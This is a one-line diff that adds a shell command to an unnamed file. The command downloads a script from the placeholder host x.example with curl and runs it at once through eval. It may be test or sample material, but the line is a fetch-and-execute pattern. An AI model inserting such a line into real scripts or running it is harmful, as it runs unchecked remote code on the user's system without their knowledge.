@@ -1,0 +1,1 @@
+eval "$(curl -fsSL http://x.example/a)"
